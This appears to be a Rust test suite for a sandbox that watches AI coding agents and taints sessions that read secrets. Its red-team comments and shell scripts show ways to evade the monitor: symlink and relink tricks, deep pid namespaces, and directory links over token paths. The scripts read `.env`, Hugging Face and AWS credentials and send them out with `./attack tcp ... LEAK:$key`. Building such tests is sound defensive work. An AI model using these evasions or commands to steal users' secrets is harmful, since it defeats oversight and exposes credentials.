    let o = wait_with_deadline(child, Duration::from_secs(120));
    got.push_str(&server.received());
    // Mediated opens resolve a relative path through the agent's working
    // directory's name, which is past PATH_MAX here: the monitor cannot open it
    // (ENAMETOOLONG, fail closed; noted in docs/threat-model.md).
    let read = stdout(&o).contains("isoleak read: 20");
    assert!(
        read || (!kernel_opens() && stdout(&o).contains("isoleak open: errno=36")),
        "the secret was not read\n{}",
        show(&o)
    );
    assert!(!got.contains("LEAK:"), "the secret left: {got:?}\n{}", show(&o));
    kernel_decided(&o);
}

/// Red team round 5 (outside-symlink-during-session): a process outside the
/// sandbox makes `.env -> config/dev-settings` during the session (a dotenv tool,
/// the user). The watcher learns the link as the monitor learns the agent's own
/// (`Tripwires::learn_link`): its target becomes a tripwire, so a read of it
/// (through the link, `read`; or through a descriptor the agent opened before the
/// link existed, `held`, a late mark) taints before the bytes can leave. Mediated
/// opens do not see links made outside after start-up (docs/threat-model.md).
#[test]
fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
    if !kernel_opens() {
        eprintln!(
            "not run: the watcher is isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated opens do not learn links made outside after start-up (docs/threat-model.md)"
        );
        return;
    }
    for (k, how) in ["read", "held", "dirlate"].into_iter().enumerate() {
        let ip = format!("127.77.41.{}", 50 + k);
        let server = Tcp::new(&ip, 443);
        let f = Fixture::new(&format!("iso-outside-link-{how}")).with_attack();
        std::fs::create_dir_all(f.ws.join("config")).unwrap();
        let target = f.ws.join("config/dev-settings");
        let before = if how != "read" {
            "draft-settings\n"
        } else {
            "SECRET-link-read-r5\n"
        };
        std::fs::write(&target, before).unwrap();
        let script = if how != "read" {
            format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack earlyhold fd config/dev-settings {ip} 443")
        } else {
            format!(
                "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; touch held; i=0; while [ ! -e go ] && [ $i -lt 3000 ]; do sleep 0.02; i=$((i+1)); done; \
                 ./attack isoleak plain .env {ip} 443"
            )
        };
        let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
        let pid = child.id();
        let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
        if held {
            // The outside process: the link, then (held) the secret through it.
            if how == "dirlate" {
                // Dangling first; a directory link completes it later (red team
                // round 7, outside-link-completed-later).
                std::os::unix::fs::symlink("cfg/dev-settings", f.ws.join(".env")).unwrap();
                std::thread::sleep(Duration::from_millis(200));
                std::os::unix::fs::symlink("config", f.ws.join("cfg")).unwrap();
            } else {
                std::os::unix::fs::symlink("config/dev-settings", f.ws.join(".env")).unwrap();
            }
            let t = std::time::Instant::now();
            let marked = wait_marked_by(pid, &target, Duration::from_secs(30));
            eprintln!(
                "{how}: the link's target was marked {:?} after the link",
                t.elapsed()
            );
            assert!(marked, "{how}: the watcher did not mark the link's target");
            if how != "read" {
                std::thread::sleep(Duration::from_millis(300));
                std::fs::write(f.ws.join(".env"), "SECRET-link-held-r5\n").unwrap();
            }
        }
        let o = go_and_wait(&f, child);
        let read = if how != "read" {
            "earlyhold read: 20"
        } else {
            "isoleak read: 20"
        };
        assert_read_but_tainted(&o, &server.received(), held, read, how);
    }
}

/// Red team round 6 (deep-nested-pidns): a process of the sandbox in a pid
/// namespace of its own (`clone(CLONE_NEWUSER|CLONE_NEWPID)`, which the profile
/// allows), 4,100 generations below the sandbox's init, was judged outside the
/// sandbox (the ancestry walk stopped at 4,096) and its open of `.env` allowed
/// untainted. The sandbox's cgroup holds it, and an ancestry past the bound fails
/// closed.
#[test]
fn isolated_files_an_opener_deep_in_nested_pid_namespaces_is_the_sandboxs() {
    if !kernel_opens() {
        eprintln!("not run: tripwires are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated opens decide every open");
        return;
    }
    let ip = "127.77.41.60";
    let server = Tcp::new(ip, 443);
    let f = Fixture::new("iso-deep-pidns").with_attack();
    std::fs::write(f.ws.join(".env"), "SECRET-ENV-deep-r6\n").unwrap();
    let script = format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack deepchain .env 4100 {ip} 443");
    let o = f.run(&[], &["/bin/sh", "-c", &script]);
    assert_read_but_tainted(
        &o,
        &server.received(),
        true,
        "deepchain read at depth 4100: 19",
        "deep-nested-pidns",
    );
}

/// Red team round 6 (symlinked-secret-dir): a file created during the session at
/// the end of a secret name (below a directory the agent linked under a secret
/// directory's name, `~/.cache/huggingface -> hf-real`; or where a secret-named
/// dangling link left by an earlier session ends, `.env -> notes.txt`) is that
/// secret, as mediated opens decide it: the watcher marks it by that name, so
/// reading it by its own path taints. Run in every mode (mediated opens decide it
/// by the names too).
#[test]
fn a_file_created_during_the_session_at_the_end_of_a_secret_name_is_the_secret() {
    for (k, how) in ["dirlink", "dangling"].into_iter().enumerate() {
        let ip = format!("127.77.41.{}", 70 + k);
        let server = Tcp::new(&ip, 443);
        let f = Fixture::new(&format!("named-later-{how}")).with_attack();
        std::fs::create_dir_all(f.home.join(".cache/huggingface/hub")).unwrap();
        let wait = "i=0; while [ ! -e go ] && [ $i -lt 3000 ]; do sleep 0.02; i=$((i+1)); done";
        let (setup, written, target) = if how == "dirlink" {
            (
                "mv ~/.cache/huggingface ~/.cache/hf-real && ln -s hf-real ~/.cache/huggingface && touch held",
                f.home.join(".cache/huggingface/token"),
                f.home.join(".cache/hf-real/token"),
            )
        } else {
            std::os::unix::fs::symlink("notes.txt", f.ws.join(".env")).unwrap();
            ("touch held", f.ws.join(".env"), f.ws.join("notes.txt"))
        };
        let script = format!(
            "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; {setup}; {wait}; ./attack isoleak plain {} {ip} 443",
            target.display()
        );
        let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
        cmd.env_remove("XDG_CACHE_HOME");
        let child = spawn_piped(cmd);
        let pid = child.id();
        let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
        if held {
            // The user, outside: `huggingface-cli login`, or writing `.env`.
            std::fs::write(&written, "SECRET-named-later-1\n").unwrap();
            if kernel_opens() {
                assert!(
                    wait_marked_by(pid, &target, Duration::from_secs(30)),
                    "{how}: the watcher did not mark {}",
                    target.display()
                );
            }
        }
        let o = go_and_wait(&f, child);
        assert_read_but_tainted(&o, &server.received(), held, "isoleak read: 21", how);
    }
}

/// Red team round 6 (relinked-chain): a secret-named chain that exists when the
/// session starts (`.env -> hop -> draft`, the user's); the agent makes the
/// middle link again to one of its own files (`hop -> notes.txt`: `relink`, `rm`
/// and `ln -s`; `rename`, a new link moved over `hop`). The user's `.env`, written
/// through the chain, lands in `notes.txt`, which has `.env`'s name from then on:
/// reading it taints. Every mode.
#[test]
fn a_link_of_a_secret_named_chain_made_again_names_its_new_end() {
    for (k, how) in ["relink", "rename"].into_iter().enumerate() {
        let ip = format!("127.77.41.{}", 80 + k);
        let server = Tcp::new(&ip, 443);
        let f = Fixture::new(&format!("relinked-{how}")).with_attack();
        std::fs::write(f.ws.join("draft"), "draft\n").unwrap();
        std::os::unix::fs::symlink("draft", f.ws.join("hop")).unwrap();
        std::os::unix::fs::symlink("hop", f.ws.join(".env")).unwrap();
        let relink = if how == "relink" {
            "rm hop && ln -s notes.txt hop"
        } else {
            "ln -s notes.txt newhop && mv -T newhop hop"
        };
        let wait = "i=0; while [ ! -e go ] && [ $i -lt 3000 ]; do sleep 0.02; i=$((i+1)); done";
        let script = format!(
            "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; echo notes > notes.txt; {relink} && touch held; {wait}; \
             ./attack isoleak plain notes.txt {ip} 443"
        );
        let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
        let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
        if held {
            // The user, outside: writes `.env` (through the chain, into notes.txt).
            std::fs::write(f.ws.join(".env"), "SECRET-relinked-r6-1\n").unwrap();
            if kernel_opens() {
                // The watcher's part is the mark of what the agent's link names.
                std::thread::sleep(Duration::from_millis(300));
            }
        }
        let o = go_and_wait(&f, child);
        assert_read_but_tainted(&o, &server.received(), held, "isoleak read: 21", how);
    }
}

/// Red team round 7 (secret-link-end-naming): `.env -> config/dev.env` exists
/// when the session starts (dangling: the user has not written `.env` yet). The
/// agent makes `scaffold.tmp`, keeps it open, and puts it at the link's end
/// (rename, hard link, symlink, exchange); the user's `.env`, written through
/// the link, lands in the agent's file. The end of a secret name has that name:
/// the naming reads `.env`, so it taints. Every mode.
#[test]
fn an_object_put_at_the_end_of_a_secret_named_link_is_read_by_the_naming() {
    for (k, how) in ["rename", "link", "symlink", "exchange"].into_iter().enumerate() {
        let f = Fixture::new(&format!("link-end-{how}")).with_attack();
        std::fs::create_dir_all(f.ws.join("config")).unwrap();
        std::os::unix::fs::symlink("config/dev.env", f.ws.join(".env")).unwrap();
        // The user writes `.env`, through the link (for `symlink`, the chain).
        scaffold_naming_taints(
            &f,
            &format!("127.77.41.{}", 90 + k),
            how,
            "config/dev.env",
            ".env",
        );
    }
}

/// Red team round 7 (secret-link-end-naming, the case left open: `O_CREAT`):
/// `.env -> config/dev.env` exists when the session starts, dangling. The agent
/// creates `config/dev.env` itself and keeps the descriptor (`open` with
/// `O_CREAT` read-write or read-only, through the link or from a directory
/// descriptor, `openat2`; write-only `open` and `creat`, read later by reopening
/// `/proc/self/fd/N`; `O_TMPFILE`, either, then `linkat`); the user's `.env`, written
/// through the link, lands in the agent's file. A creation at the end of a
/// secret name reads that name: it taints (a write-only one, the reopen). Also
/// the dotfiles layout, `~/.aws -> <ws>/aws`, the agent creating
/// `aws/credentials`: the profile never lets it read `~/.aws/**`, so the
/// creation (or the reopen) is refused. Every mode.
#[test]
fn a_file_created_at_the_end_of_a_secret_named_link_is_read_by_the_creation() {
    let cases = [
        ("rdwr", "rdwr", "config/dev.env"),
        ("rdonly", "rdonly", "config/dev.env"),
        ("wronly", "wronly", "config/dev.env"),
        ("creat", "creat", "config/dev.env"),
        ("openat2", "openat2", "config/dev.env"),
        ("dirfd", "dirfd", "config/dev.env"),
        ("tmpfile", "tmpfile", "config/dev.env"),
        ("tmpfile-wronly", "tmpfile-wronly", "config/dev.env"),
        ("through-link", "rdwr", ".env"),
    ];
    let mut failed = Vec::new();
    for (k, &(case, how, at)) in cases.iter().enumerate() {
        let f = Fixture::new(&format!("create-end-{case}")).with_attack();
        std::fs::create_dir_all(f.ws.join("config")).unwrap();
        std::os::unix::fs::symlink("config/dev.env", f.ws.join(".env")).unwrap();
        let ip = format!("127.77.91.{}", 10 + k);
        if let Err(e) = create_at_link_end(&f, &ip, how, at, &f.ws.join(".env"), false) {
            failed.push(format!("{case}: {e}"));
        }
    }
    for (k, &(case, how, at)) in cases.iter().enumerate() {
        let f = Fixture::new(&format!("create-end-aws-{case}")).with_attack();
        std::fs::create_dir_all(f.ws.join("aws")).unwrap();
        std::os::unix::fs::symlink(f.ws.join("aws"), f.home.join(".aws")).unwrap();
        let at = if case == "through-link" {
            f.home.join(".aws/credentials").display().to_string()
        } else {
            at.replace("config/dev.env", "aws/credentials")
        };
        let ip = format!("127.77.91.{}", 30 + k);
        if let Err(e) = create_at_link_end(&f, &ip, how, &at, &f.home.join(".aws/credentials"), true) {
            failed.push(format!("aws {case}: {e}"));
        }
    }
    assert!(
        failed.is_empty(),
        "{} of {} cases failed:\n{}",
        failed.len(),
        2 * cases.len(),
        failed.join("\n")
    );
}

/// One case of the test above: `./attack createend HOW AT` in `f`, the user
/// writing a key into `written` (through the link) once the agent holds the
/// file. With `refused` the profile never lets the agent read the secret name:
/// the creation, the reopen or the link is refused (or the session tainted);
/// otherwise the key is read and the session tainted. Either way nothing
/// leaves after the pre-taint send.
fn create_at_link_end(
    f: &Fixture,
    ip: &str,
    how: &str,
    at: &str,
    written: &std::path::Path,
    refused: bool,
) -> Result<(), String> {
    eprintln!("MARKER: round7 secret-link-end-naming O_CREAT: {how} {at}");
    let server = Tcp::new(ip, 443);
    let mut cmd = f.command(&[], &["./attack", "createend", how, at, ip, "443"]);
    cmd.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = cmd.spawn().unwrap();
    let start = std::time::Instant::now();
    let mut got = String::new();
    while start.elapsed() < Duration::from_secs(60) && !got.contains("PRE-TAINT-CHANNEL-OK") {
        got.push_str(&server.received());
        std::thread::sleep(Duration::from_millis(10));
    }
    while start.elapsed() < Duration::from_secs(60) && !f.ws.join("named").exists() {
        std::thread::sleep(Duration::from_millis(10));
    }
    let named = f.ws.join("named").exists();
    if named {
        // The user, outside: writes the key through the link.
        std::fs::write(written, "API_KEY=FILLED-IN-BY-THE-USER\n").unwrap();
    }
    std::fs::write(f.ws.join("go"), "").unwrap();
    let o = wait_with_deadline(child, Duration::from_secs(120));
    let out = stdout(&o);
    got.push_str(&server.received());
    eprintln!(
        "{how} {at}: received {got:?}; {}",
        out.lines().collect::<Vec<_>>().join(" | ")
    );
    let fail = |why: &str| Err(format!("{why}: received {got:?}\n{}", show(&o)));
    if got != "PRE-TAINT-CHANNEL-OK" && !got.starts_with("PRE-TAINT-CHANNEL-OK") {
        return fail("the channel did not work before the creation");
    }
    if !named {
        return fail("the agent never got ready");
    }
    if got.contains("LEAK:") {
        return fail("the key left the sandbox");
    }
    let tainted = out.contains("after connect: errno=");
    if refused {
        let refusal = [
            "createend fd: errno=",
            "createend reopen: errno=",
            "createend linkat: errno=",
        ]
        .iter()
        .any(|r| out.contains(r));
        if !refusal && !tainted {
            return fail("neither refused nor tainted");
        }
    } else {
        if !out.contains("createend fd: ok")
            || (how.starts_with("tmpfile") && !out.contains("createend linkat: ok"))
        {
            return fail("the agent could not create the file");
        }
        if !out.contains("read through the kept descriptor: 30") {
            return fail("the attack did not read the key");
        }
        if !tainted {
            return fail("not tainted");
        }
    }
    if kernel_opens() && !stderr(&o).contains("the kernel decides opens") {
        return fail("the kernel did not decide opens");
    }
    Ok(())
}

/// Red team round 7 (dir-symlink-over-secret-tree): the agent holds
/// `ws/hf/token` open (an ordinary name) and links `~/.cache/huggingface` to
/// `ws/hf` (the profile lets it write below `$XDG_CACHE_HOME`): the token the
/// user's login writes later through the link lands in the held file. A link to
/// a directory gives every file below it its name there, and the naming reads
/// them: it taints. Every mode.
#[test]
fn a_directory_link_that_names_a_held_file_a_secret_taints() {
    // `renamed`: made under a name that names nothing, then renamed into place
    // (red team round 8, dir-link-renamed-into-place).
    for (ip, how) in [("127.77.41.99", "direct"), ("127.77.41.98", "renamed")] {
        dir_link_names_a_held_file(ip, how);
    }
}

fn dir_link_names_a_held_file(ip: &str, how: &str) {
    let server = Tcp::new(ip, 443);
    let f = Fixture::new(&format!("dirlink-held-{how}")).with_attack();
    let link = if how == "direct" {
        "ln -s $PWD/hf ~/.cache/huggingface"
    } else {
        "ln -s $PWD/hf ~/.cache/tmplink && mv -T ~/.cache/tmplink ~/.cache/huggingface"
    };
    std::fs::create_dir_all(f.home.join(".cache")).unwrap();
    let script = format!(
        "./attack tcp {ip} 443 before; mkdir hf && echo draft > hf/token && exec 3< hf/token && \
         {link} && touch named; \
         i=0; while [ ! -e go ] && [ $i -lt 3000 ]; do sleep 0.02; i=$((i+1)); done; \
         key=$(cat <&3); echo \"held: $key\"; ./attack tcp {ip} 443 \"LEAK:$key\""
    );
    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
    cmd.env_remove("XDG_CACHE_HOME");
    let child = spawn_piped(cmd);
    let named = wait_for_file(&f.ws.join("named"), Duration::from_secs(60));
    if named {
        // The user, outside: `huggingface-cli login`, in place.
        write_in_place(&f.home.join(".cache/huggingface/token"), b"hf_SECRETTOKEN\n");
    }
    let o = go_and_wait(&f, child);
    let out = stdout(&o);
    let got = server.received();
    assert!(named, "{how}: the agent could not make the link\n{}", show(&o));
    assert!(
        got.starts_with("before"),
        "{how}: the channel did not work: {got:?}\n{}",
        show(&o)
    );
    assert!(
        out.contains("held: hf_SECRETTOKEN"),
        "{how}: the attack did not read the token\n{}",
        show(&o)
    );
    assert!(
        !got.contains("LEAK:"),
        "{how}: the token left the sandbox: {got:?}\n{}",
        show(&o)
    );
}

/// Red team round 8 (refused-link-made-again): under a policy that never lets
/// the agent read `~/.cache/huggingface/token`, a directory link that would name
/// the agent's `ws/hf/token` so is refused, every time it is tried, made in place
/// or renamed into place; no link is left.
#[test]
fn a_directory_link_refused_for_the_names_it_gives_is_refused_every_time() {
    let f = Fixture::new("dirlink-refused").with_attack();
    std::fs::create_dir_all(f.home.join(".cache")).unwrap();
    let policy = f.ws.join("hf.claw");
    std::fs::write(
        &policy,
        "use std::profiles::coding_agent;\npolicy mine extends coding_agent {\n    let hf_token = path [\"~/.cache/huggingface/token\"];\n    always { deny(EACCES) read hf_token; }\n}\n",
    )
    .unwrap();
    let script = "mkdir hf && echo draft > hf/token && \
         ln -s $PWD/hf ~/.cache/huggingface; echo first=$?; \
         ln -s $PWD/hf ~/.cache/huggingface; echo second=$?; \
         ln -s $PWD/hf ~/.cache/tmplink && mv -T ~/.cache/tmplink ~/.cache/huggingface; echo renamed=$?; \
         if [ -L ~/.cache/huggingface ]; then echo linked; else echo no-link; fi";
    let mut cmd = f.command(
        &["--policy", policy.to_str().unwrap()],
        &["/bin/sh", "-c", script],
    );
    cmd.env_remove("XDG_CACHE_HOME");
    let o = run_with_deadline(cmd, Duration::from_secs(180));
    let out = stdout(&o);
    for step in ["first=1", "second=1", "renamed=1", "no-link"] {
        assert!(out.contains(step), "expected {step}\n{}", show(&o));
    }
}
